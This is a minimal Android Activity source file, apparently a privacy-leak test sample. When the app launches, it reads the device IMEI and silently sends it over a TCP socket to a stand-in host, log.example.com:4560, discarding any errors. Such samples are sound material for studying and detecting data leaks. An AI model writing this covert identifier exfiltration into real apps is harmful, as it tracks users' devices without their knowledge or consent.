package p;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import java.io.IOException;
import java.io.PrintWriter;
import java.net.Socket;
import java.util.concurrent.Executors;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        final String imei = phone.getImei();
        Executors.newSingleThreadExecutor().execute(new Runnable() {
            @Override
            public void run() {
                send(imei);
            }
        });
    }

    static void send(String line) {
        try {
            Socket socket = new Socket("log.example.com", 4560);
            PrintWriter writer = new PrintWriter(socket.getOutputStream(), true);
            writer.println(line);
            socket.close();
        } catch (IOException error) {
            return;
        }
    }
}
